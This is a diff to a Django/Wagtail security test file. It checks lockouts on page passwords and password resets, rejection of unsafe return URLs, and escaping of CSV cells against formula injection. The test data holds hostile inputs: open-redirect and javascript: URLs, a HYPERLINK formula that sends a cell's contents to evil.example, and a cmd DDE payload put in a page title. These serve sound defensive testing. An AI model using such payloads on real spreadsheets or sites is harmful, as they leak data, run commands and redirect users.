@@ -1,6 +1,9 @@
 """Security settings and behaviour (README.md, Security): production checks, headers, cookies,
-sign-in lockout, uploads, document downloads, escaping of what staff enter."""
+sign-in lockout, limits on page passwords and password resets, uploads, document downloads,
+escaping of what staff enter, CSV downloads without formulas."""
 
+import csv
+import io
 import os
 import re
 import resource
@@ -8,25 +11,34 @@ import secrets
 import struct
 import subprocess
 import sys
+import time
 import zlib
 from pathlib import Path
 
 import pytest
 from axes.models import AccessAttempt
+from django.core.cache import caches
 from django.core.files.base import ContentFile
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.http import HttpResponse
 from django.test import Client, RequestFactory
-from django.urls import reverse
+from django.urls import resolve, reverse
 from wagtail.documents.models import Document
 from wagtail.images.models import Image
-from wagtail.models import Collection, CollectionViewRestriction
+from wagtail.models import Collection, CollectionViewRestriction, PageViewRestriction
 from wagtail.rich_text import RichText
 
-from ciso.models import StandardPage
-from ciso.security import CSPMiddleware, client_ip
+from ciso.models import HomePage, StandardPage
+from ciso.security import (
+    CSPMiddleware,
+    PasswordResetView,
+    authenticate_with_password,
+    client_ip,
+)
+from ciso.settings import redis_cache
 from history.models import HistoryPage
 from projects.models import ProjectPage
+from tests.conftest import require_service
 
 pytestmark = pytest.mark.django_db
 
@@ -498,3 +510,284 @@ def test_rich_text_intro_is_cleaned_too(client, html):
     doc = html(response)
     assert "Depuis 1975" in doc.find(class_="lead").get_text()
     assert not doc.find_all("img", onerror=True)
+
+
+# --- Page passwords ------------------------------------------------------------------------
+
+
+@pytest.fixture
+def private_page():
+    """A password-protected page with a subpage, which the same password opens."""
+    page = HomePage.objects.get().add_child(
+        instance=StandardPage(
+            title_fr="Réservé", title_en="Members", slug_fr="reserve", slug_en="members"
+        )
+    )
+    page.add_child(
+        instance=StandardPage(
+            title_fr="Procès-verbal", title_en="Minutes", slug_fr="proces-verbal", slug_en="minutes"
+        )
+    )
+    PageViewRestriction.objects.create(
+        page=page, restriction_type=PageViewRestriction.PASSWORD, password="b0nne-clef"
+    )
+    return page
+
+
+def password_form(client, url):
+    """Where the password form of the page at `url` posts to, and the address it returns to."""
+    from bs4 import BeautifulSoup
+
+    form = BeautifulSoup(client.get(url).content, "html.parser").find("form", method="POST")
+    return form["action"], form.find("input", attrs={"name": "return_url"})["value"]
+
+
+def guess(client, form, password, address="203.0.113.5", return_url=None):
+    action, page_url = form
+    data = {"password": password, "return_url": page_url if return_url is None else return_url}
+    return client.post(action, data, REMOTE_ADDR=address)
+
+
+def test_page_password_guesses_are_paused_after_ten_wrong_ones(client, private_page):
+    form = password_form(client, "/fr/reserve/")
+    for _ in range(9):
+        response = guess(client, form, "mauvais")
+        assert response.status_code == 200
+        assert "Le mot de passe que vous avez saisi est incorrect" in response.content.decode()
+    # The tenth wrong password pauses the form for this page and this address…
+    response = guess(client, form, "mauvais")
+    assert response.status_code == 429
+    text = response.content.decode()
+    assert "Trop de mots de passe erronés" in text
+    assert "dans 15 minutes" in text
+    assert 'name="password"' in text  # the form, to come back to later
+    # … so the right password is refused too, and the page stays closed.
+    response = guess(client, form, "b0nne-clef")
+    assert response.status_code == 429
+    assert b'name="password"' in client.get("/fr/reserve/").content
+
+    # In English on the English site; for the subpages too (the same password opens them).
+    response = guess(client, password_form(client, "/en/members/minutes/"), "b0nne-clef")
+    assert response.status_code == 429
+    assert "Too many wrong passwords" in response.content.decode()
+    assert response["Content-Language"] == "en"
+
+    # Another address is not paused.
+    assert guess(client, form, "b0nne-clef", address="198.51.100.7").status_code == 302
+
+
+def test_the_page_password_pause_ends_and_a_success_clears_the_count(
+    client, private_page, monkeypatch
+):
+    form = password_form(client, "/fr/reserve/")
+    for _ in range(10):
+        guess(client, form, "mauvais")
+    assert guess(client, form, "b0nne-clef").status_code == 429
+    later = time.time() + 15 * 60 + 1
+    monkeypatch.setattr(time, "time", lambda: later)
+    assert guess(client, form, "b0nne-clef").status_code == 302
+
+    # The count starts again after a success: nine more mistakes do not pause the form.
+    client.logout()
+    for _ in range(9):
+        assert guess(client, form, "mauvais").status_code == 200
+    assert guess(client, form, "b0nne-clef").status_code == 302
+
+
+def test_other_pages_passwords_are_counted_apart(client, private_page):
+    other = HomePage.objects.get().add_child(
+        instance=StandardPage(title_fr="Conseil", slug_fr="conseil", slug_en="board")
+    )
+    PageViewRestriction.objects.create(
+        page=other, restriction_type=PageViewRestriction.PASSWORD, password="autre-clef"
+    )
+    form = password_form(client, "/fr/reserve/")
+    for _ in range(10):
+        guess(client, form, "mauvais")
+    assert guess(client, form, "b0nne-clef").status_code == 429
+    assert guess(client, password_form(client, "/fr/conseil/"), "autre-clef").status_code == 302
+
+
+@pytest.mark.parametrize(
+    ("url", "expected"), [("/fr/reserve/", "/fr/reserve/"), ("/en/members/", "/en/members/")]
+)
+@pytest.mark.parametrize(
+    "return_url", ["https://evil.example/", "//evil.example/", "javascript:alert(1)", ""]
+)
+def test_an_unsafe_return_address_leads_back_to_the_page(
+    client, private_page, url, expected, return_url
+):
+    response = guess(client, password_form(client, url), "b0nne-clef", return_url=return_url)
+    assert response.status_code == 302
+    assert response["Location"] == expected
+    assert client.get(expected).status_code == 200  # and the page opens
+
+
+def test_a_safe_return_address_is_followed(client, private_page):
+    form = password_form(client, "/fr/reserve/proces-verbal/")
+    assert form[1] == "/fr/reserve/proces-verbal/"
+    response = guess(client, form, "b0nne-clef")
+    assert response["Location"] == "/fr/reserve/proces-verbal/"
+
+
+# --- Password reset ------------------------------------------------------------------------
+
+
+def reset(client, email, address="203.0.113.5", language="en"):
+    return client.post(
+        "/admin/password_reset/",
+        {"email": email},
+        REMOTE_ADDR=address,
+        HTTP_ACCEPT_LANGUAGE=language,
+    )
+
+
+def test_password_reset_is_limited_per_account(client, django_user_model, mailoutbox):
+    django_user_model.objects.create_superuser("editor", "editor@example.org", "Pw-12345!")
+    django_user_model.objects.create_superuser("other", "other@example.org", "Pw-12345!")
+    for _ in range(3):
+        assert reset(client, "editor@example.org").status_code == 302
+    assert len(mailoutbox) == 3
+    # The fourth request for the account sends nothing, whatever the address or the case.
+    response = reset(client, "Editor@Example.org")
+    assert response.status_code == 429
+    text = response.content.decode()
+    assert "Too many requests to reset a password" in text
+    assert "in 60 minutes" in text
+    assert 'name="email"' in text
+    response = reset(client, "editor@example.org", address="198.51.100.7", language="fr")
+    assert response.status_code == 429
+    assert "Trop de demandes de réinitialisation" in response.content.decode()
+    assert len(mailoutbox) == 3
+    # Another account is not paused.
+    assert reset(client, "other@example.org").status_code == 302
+    assert len(mailoutbox) == 4
+
+
+def test_password_reset_is_limited_per_address(client, mailoutbox):
+    for n in range(10):
+        assert reset(client, f"someone{n}@example.org").status_code == 302
+    response = reset(client, "someone-else@example.org")
+    assert response.status_code == 429
+    assert "Too many requests to reset a password" in response.content.decode()
+    assert reset(client, "someone-else@example.org", address="198.51.100.7").status_code == 302
+
+
+def test_password_reset_answers_the_same_for_unknown_accounts(client, django_user_model):
+    django_user_model.objects.create_superuser("editor", "editor@example.org", "Pw-12345!")
+    known = [reset(client, "editor@example.org") for _ in range(4)]
+    unknown = [reset(client, "nobody@example.org") for _ in range(4)]
+    assert [r.status_code for r in known] == [r.status_code for r in unknown] == [302] * 3 + [429]
+    assert {r["Location"] for r in known[:3] + unknown[:3]} == {"/admin/password_reset/done/"}
+    # The same page, but for the address typed in the box.
+    assert without_tokens(known[3]).replace("editor@", "nobody@") == without_tokens(unknown[3])
+
+
+# --- Either limit -------------------------------------------------------------------------
+
+
+def test_attempt_limits_are_kept_in_redis_for_every_worker(settings):
+    """With Redis (production), what one worker counted another one sees."""
+    from ciso.security import PAGE_PASSWORD_LIMIT
+
+    require_service("127.0.0.1", 6379, "Redis")
+    settings.CACHES = {
+        **settings.CACHES,
+        "default": {**redis_cache("redis://127.0.0.1:6379/15"), "KEY_PREFIX": secrets.token_hex()},
+    }
+    try:
+        for _ in range(PAGE_PASSWORD_LIMIT.attempts - 1):
+            PAGE_PASSWORD_LIMIT.count("203.0.113.5", 1)
+        assert not PAGE_PASSWORD_LIMIT.paused_for("203.0.113.5", 1)
+        caches["default"].close()
+        # Another connection, as another gunicorn worker has.
+        PAGE_PASSWORD_LIMIT.count("203.0.113.5", 1)
+        caches["default"].close()
+        assert 14 * 60 < PAGE_PASSWORD_LIMIT.paused_for("203.0.113.5", 1) <= 15 * 60
+        assert not PAGE_PASSWORD_LIMIT.paused_for("203.0.113.6", 1)
+    finally:
+        caches["default"].delete_pattern("*")
+
+
+def test_without_the_cache_page_passwords_and_resets_still_work(
+    client, private_page, settings, closed_port, mailoutbox
+):
+    # Redis down: nothing is counted (nginx still limits), and nobody gets an error.
+    settings.CACHES = {
+        **settings.CACHES,
+        "default": redis_cache(f"redis://127.0.0.1:{closed_port}/0"),
+    }
+    form = password_form(client, "/fr/reserve/")
+    assert guess(client, form, "mauvais").status_code == 200
+    assert guess(client, form, "b0nne-clef").status_code == 302
+    assert reset(client, "someone@example.org").status_code == 302
+
+
+def test_the_forms_post_to_the_limited_views(client, private_page, html):
+    # Ours shadow Wagtail's routes of the same name at the same address (ciso/urls.py): should
+    # an upgrade move Wagtail's, its forms would post past the limits.
+    reset_url = reverse("wagtailadmin_password_reset")
+    assert html(client.get("/admin/login/")).find("a", href=reset_url)
+    assert resolve(reset_url).func.view_class is PasswordResetView
+    for url in ("/fr/reserve/", "/en/members/minutes/"):
+        assert resolve(password_form(client, url)[0]).func is authenticate_with_password
+
+
+# --- Spreadsheets --------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Ouvrir")'
+
+
+def csv_rows(response):
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(content)))
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        ("+33 1 23", "'+33 1 23"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Coopération", "Coopération"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (42, 42),
+    ],
+)
+def test_spreadsheet_cells_never_start_a_formula(value, expected):
+    from ciso.security import spreadsheet_text
+
+    assert spreadsheet_text(value) == expected
+
+
+def test_translation_report_csv_does_not_run_a_formula_in_a_title(staff_client):
+    # A draft page, not yet translated: listed under its French title.
+    HomePage.objects.get().add_child(
+        instance=StandardPage(title_fr=HYPERLINK, slug_fr="piege", live=False)
+    )
+    rows = csv_rows(staff_client.get("/admin/reports/translations/?export=csv"))
+    titles = [row[0] for row in rows[1:]]
+    assert "'" + HYPERLINK in titles
+    assert HYPERLINK not in titles
+    # The Excel file keeps the title as it is, in a text cell (Wagtail's own rule).
+    response = staff_client.get("/admin/reports/translations/?export=xlsx")
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [cell for cell in sheet["A"] if cell.value == HYPERLINK]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+
+
+def test_wagtail_reports_csv_does_not_run_a_formula_either(staff_client, django_user_model):
+    page = StandardPage.objects.get(slug_fr="rqic")
+    page.title = "@SUM(1+1)*cmd|' /C calc'!A0"
+    page.locked = True
+    page.locked_by = django_user_model.objects.get(username="staff")
+    page.save()
+    rows = csv_rows(staff_client.get("/admin/reports/locked/?export=csv"))
+    assert [row[0] for row in rows[1:] if "SUM" in row[0]] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
